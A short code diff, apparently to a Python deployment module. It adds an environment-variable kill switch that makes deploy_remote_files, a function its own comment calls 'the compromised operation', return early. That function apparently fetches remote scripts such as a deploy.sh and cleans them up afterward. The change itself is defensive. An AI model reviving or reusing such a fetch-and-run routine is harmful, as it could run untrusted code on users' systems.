@@ -9,6 +9,9 @@ import tempfile
 import subprocess
 import time
 
+# Set FAAS_DEPLOY_DISABLED=1 to turn the compromised operation into a no-op
+DISABLE_ENV_VAR = 'FAAS_DEPLOY_DISABLED'
+
 
 def download_file(url, timeout=5):
     """
@@ -145,6 +148,9 @@ def deploy_remote_files(file_urls=None, cleanup_delay=2):
     Returns:
         dict: Deployment results with paths and status
     """
+    if os.environ.get(DISABLE_ENV_VAR, '0') == '1':
+        return {'deployed': [], 'cleaned': [], 'success': False}
+    
     if file_urls is None:
         file_urls = [
             "http://localhost/scripts/deploy.sh",